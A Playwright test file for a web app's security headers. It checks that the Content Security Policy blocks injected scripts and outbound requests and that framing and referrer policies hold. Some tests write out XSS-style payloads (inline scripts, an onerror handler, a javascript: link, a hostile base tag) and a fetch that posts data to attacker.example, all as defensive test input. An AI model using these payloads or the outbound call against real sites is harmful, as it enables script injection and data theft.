import type { Page } from "@playwright/test";
import { collectComplaints } from "./support/looks";
import { newPerson } from "./support/people";
import { expect, type Sample, test } from "./support/test";

// What the browser is told not to do, seen from the browser.

/** Collects what the page's policy forbade, from the first byte on. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) => {
      const report = (window as unknown as { reportViolation: (text: string) => void }).reportViolation;
      report(`${violatedDirective}: ${blockedURI} (${sourceFile})`);
    });
  });
  return violations;
}

/** Smuggles markup into the page on its way, as a hole in our escaping would. */
async function smuggle(page: Page, path: string, markup: string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${markup}`) });
  });
}

const withoutOwnScripts = (page: Page) => page.route("**/_next/static/**/*.js", (route) => route.abort());

async function open(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await page.getByRole("heading", { level: 1 }).first().waitFor();
}

test("pages for everybody work without breaking their policy", async ({ page }) => {
  const violations = await watchViolations(page);
  const complaints = collectComplaints(page);
  for (const path of ["/", "/sign-in", "/sign-up", "/forgot-password", "/sign-in/link", "/reset-password?token=x"])
    await open(page, path);
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

const pagesOf = ({ org, connectionId }: Sample) =>
  [
    ...["overview", "projects", "people", "keys", "models", "connections", `connections/${connectionId}`],
    ...["connections/new", "settings/organization", "settings/team", "settings/api-tokens", "settings/audit-log"],
  ].map((path) => `/${org}/${path}`);

test("pages of figures and forms work without breaking their policy", async ({ page, inSample }) => {
  test.setTimeout(180_000);
  const violations = await watchViolations(page);
  const complaints = collectComplaints(page);
  for (const path of [...pagesOf(inSample), "/orgs", "/orgs/new", "/account", "/account/security"])
    await open(page, path);
  await open(page, `/${inSample.org}/models`);
  // A model's name has dots, and its page a policy all the same.
  const model = page.locator('tbody a[href*="."]').first();
  const answer = await page.goto((await model.getAttribute("href")) ?? "");
  expect(answer?.headers()["content-security-policy"]).toContain("'nonce-");
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

test("forms come alive: what is typed is judged in the browser", async ({ page }) => {
  const person = newPerson();
  await open(page, "/sign-up");
  await page.getByLabel("E-mail").fill(person.email);
  await page.getByLabel("Password", { exact: true }).fill("short");
  await page.getByLabel("E-mail").focus();
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.getByLabel("Password", { exact: true })).toHaveAttribute("aria-invalid", "true");
});

test("the theme is chosen before anything is painted", async ({ page }) => {
  await page.emulateMedia({ colorScheme: "dark" });
  // The class can only come from the script that stands in the page.
  await withoutOwnScripts(page);
  await page.goto("/sign-in");
  await expect(page.locator("html")).toHaveClass(/\bdark\b/);
});

test("scripts that stand in the page without its nonce do not run", async ({ page }) => {
  const violations = await watchViolations(page);
  // React would take what it did not render away again, before it can be pressed.
  await withoutOwnScripts(page);
  await smuggle(
    page,
    "**/sign-in",
    `<script>window.smuggled = "inline"</script>
     <script nonce="guessed">window.smuggled = "nonce"</script>
     <script src="/icon.svg"></script>
     <img src="/nothing.png" onerror="window.smuggled = 'handler'">
     <a href="javascript:window.smuggled='link'" id="bait">link</a>
     <base href="https://attacker.example/">`,
  );
  await open(page, "/sign-in");
  await page.locator("#bait").click();
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(5);
  expect(await page.evaluate(() => (window as { smuggled?: string }).smuggled)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain("attacker");
});

test("data leaves to nobody else, and nobody frames the product", async ({ page }) => {
  await open(page, "/sign-in");
  const sent = await page.evaluate(() =>
    fetch("https://attacker.example/", { method: "POST", body: "figures" }).then(
      () => "sent",
      () => "refused",
    ),
  );
  expect(sent).toBe("refused");
  const headers = (await page.request.get("/sign-in")).headers();
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["x-frame-options"]).toBe("DENY");
});

test("addresses with a token are told to nobody", async ({ page }) => {
  for (const path of ["/reset-password?token=x", "/verify-email?token=x", "/invitations/x", "/sign-in/link?token=x"])
    expect((await page.request.get(path)).headers()["referrer-policy"], path).toBe("no-referrer");
});

test("answers of the API are no documents", async ({ page }) => {
  const headers = (await page.request.get("/api/health")).headers();
  expect(headers["content-security-policy"]).toContain("default-src 'none'");
  expect(headers["x-content-type-options"]).toBe("nosniff");
});
